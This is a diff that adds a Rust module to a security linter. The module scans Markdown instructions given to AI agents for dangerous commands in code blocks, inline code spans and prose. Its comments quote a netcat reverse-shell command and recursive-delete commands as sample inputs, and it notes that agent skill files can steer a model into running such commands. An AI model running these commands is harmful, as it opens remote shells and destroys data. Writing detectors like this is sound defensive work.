@@ -1,0 +1,162 @@
+//! The commands Markdown instructions tell the agent to run: every block of code
+//! ([`crate::analysis::runnable`]) through the one analyser of commands, and, in the prose
+//! around them, a download run by an interpreter (`SEC040`), line by line. Only that one
+//! danger in prose: a sentence may well name `sudo` or `rm -rf /` to warn against them.
+
+use super::{Found, MAX_PER_COMMAND, Place, emit};
+use crate::analysis::runnable::{Code, Setting, looks_like_command, runnable_blocks};
+use crate::analysis::shell::{
+    DangerKind, Dialect, Language, dangers, downloads_in_prose, script_dangers,
+};
+use crate::diagnostics::Diagnostic;
+use crate::formats::texts::Text;
+
+/// Languages whose fenced blocks are the content of a file, not commands the reader runs.
+const FILE_CONTENT_LANGUAGES: &[&str] = &[
+    "dockerfile",
+    "containerfile",
+    "docker",
+    "json",
+    "jsonc",
+    "yaml",
+    "yml",
+    "toml",
+    "ini",
+    "xml",
+    "html",
+    "css",
+    "markdown",
+    "md",
+    "diff",
+];
+
+/// The commands of the instructions `text`.
+pub(super) fn check<'t>(text: &'t Text<'t>, out: &mut Vec<Diagnostic>, found: &mut Found<'t>) {
+    let blocks = runnable_blocks(&text.value);
+    for b in &blocks {
+        let dangers = match b.code {
+            Code::Shell(dialect) => dangers(&b.text, dialect),
+            Code::Python => script_dangers(&b.text, Language::Python),
+            Code::JavaScript => script_dangers(&b.text, Language::JavaScript),
+        };
+        let place = match b.setting {
+            Setting::Told => Place::Told,
+            Setting::Image => Place::Image,
+        };
+        emit(text, b.span.start, place, dangers, out, found);
+    }
+    let mut at = 0;
+    let mut reported = 0;
+    let mut fence = Fence::default();
+    for line in text.value.split_inclusive('\n') {
+        let base = at;
+        at += line.len();
+        let in_block = blocks
+            .iter()
+            .any(|b| b.span.start <= base && base < b.span.end);
+        if fence.step(line) || in_block {
+            continue;
+        }
+        code_spans(text, base, line, out, found);
+        let found_here = downloads_in_prose(line);
+        if found_here.is_empty() {
+            continue;
+        }
+        let take = MAX_PER_COMMAND.saturating_sub(reported);
+        reported += found_here.len().min(take);
+        let shifted = found_here
+            .into_iter()
+            .take(take)
+            .map(|mut d| {
+                d.start += base;
+                d.end += base;
+                d
+            })
+            .collect();
+        emit(text, 0, Place::Told, shifted, out, found);
+    }
+}
+
+/// Words that make a sentence a warning against what it names (`Never run `rm -rf ~``).
+const NEGATIONS: &[&str] = &[
+    "never",
+    "don't",
+    "do not",
+    "avoid",
+    "must not",
+    "should not",
+    "instead of",
+    "not run",
+];
+
+/// The commands a line of prose gives in code spans (`` Run `nc -e /bin/sh h 9` ``, and
+/// Claude Code's `` !`cmd` ``, run before the model reads the skill). A download run is
+/// left to the reading of the whole line, and `sudo` to code blocks: prose names both in
+/// passing.
+fn code_spans<'t>(
+    text: &'t Text<'t>,
+    base: usize,
+    line: &str,
+    out: &mut Vec<Diagnostic>,
+    found: &mut Found<'t>,
+) {
+    if !line.contains('`') {
+        return;
+    }
+    let mut at = 0;
+    for (i, piece) in line.split('`').enumerate() {
+        let start = at;
+        at += piece.len() + 1;
+        if i % 2 == 0 || !looks_like_command(piece) {
+            continue;
+        }
+        let before = line[..start.saturating_sub(1)].to_ascii_lowercase();
+        let sentence = before
+            .rsplit(['.', '!', '?', ':'])
+            .next()
+            .unwrap_or(&before);
+        if NEGATIONS.iter().any(|n| sentence.contains(n)) {
+            continue;
+        }
+        let mut dangers = dangers(piece, Dialect::Posix);
+        dangers.retain(|d| !matches!(d.kind, DangerKind::DownloadExecute | DangerKind::Privileged));
+        emit(text, base + start, Place::Told, dangers, out, found);
+    }
+}
+
+/// Where a line of Markdown is with respect to fenced code blocks.
+#[derive(Default)]
+struct Fence {
+    /// The opening run (``` or ~~~ and its length) and whether the block is a file's content.
+    open: Option<(char, usize, bool)>,
+}
+
+impl Fence {
+    /// Read `line`; true when it is a fence line or inside a block of file content.
+    fn step(&mut self, line: &str) -> bool {
+        let t = line.trim_start_matches(' ');
+        let ch = t.chars().next().filter(|c| *c == '`' || *c == '~');
+        let run = ch.map_or(0, |c| t.len() - t.trim_start_matches(c).len());
+        match (self.open, ch) {
+            (Some((c, n, _)), Some(d)) if c == d && run >= n && t[run..].trim().is_empty() => {
+                self.open = None;
+                true
+            }
+            (Some((_, _, content)), _) => content,
+            (None, Some(c)) if run >= 3 => {
+                let info = t[run..]
+                    .trim()
+                    .split(|x: char| x.is_whitespace() || x == '{')
+                    .next();
+                let content = info.is_some_and(|w| {
+                    FILE_CONTENT_LANGUAGES
+                        .iter()
+                        .any(|l| w.eq_ignore_ascii_case(l))
+                });
+                self.open = Some((c, run, content));
+                true
+            }
+            (None, _) => false,
+        }
+    }
+}
